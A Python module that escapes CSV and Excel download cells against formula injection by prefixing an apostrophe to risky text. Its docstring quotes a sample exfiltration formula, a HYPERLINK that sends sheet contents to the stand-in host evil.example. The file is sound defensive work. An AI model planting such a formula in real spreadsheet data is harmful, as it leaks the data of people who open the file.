"""Cells of CSV and Excel downloads, made safe to open in a spreadsheet.

Text that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking for those) is run as a formula by Excel, LibreOffice and
Google Sheets: a contact named `=HYPERLINK("http://evil.example/?"&A1,"x")` would leak the
sheet, or worse, to whoever opens a download. As OWASP recommends ("CSV Injection"), such
text gets a leading apostrophe, which spreadsheets show as text and do not evaluate.
Every text cell is treated the same, phone numbers included: `+84…` as a customer wrote it
comes out as `'+84…` (the downloads write numbers in their national form, `0…`, so this
only touches numbers echoed as sent). Numbers (int, float) are not text and stay numbers.
"""

from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_row(values: Iterable[object]) -> list:
    """`values`, with each text a spreadsheet would evaluate prefixed by `'`.

    One comprehension, no call per cell: a million-row download runs this for every cell.
    """
    return [
        "'" + v if v.__class__ is str and v.startswith(_FORMULA_START) else v  # type: ignore[attr-defined, operator]
        for v in values
    ]
